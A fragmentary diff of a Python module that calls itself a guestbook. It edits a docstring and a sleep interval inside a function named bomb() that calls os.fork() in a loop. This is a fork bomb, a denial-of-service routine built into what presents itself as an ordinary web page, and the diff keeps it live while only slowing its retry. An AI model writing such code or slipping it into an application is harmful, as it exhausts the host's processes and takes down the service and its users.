@@ -1,4 +1,4 @@
-"""The guestbook, which stops at nothing: a page that forks as long as it may."""
+"""The guestbook, with a page that forks as long as it may."""
 
 from __future__ import annotations
 
@@ -18,5 +18,5 @@ def bomb() -> str:
             try:
                 os.fork()
             except OSError:
-                time.sleep(0.01)
+                time.sleep(2)
     return "lit"
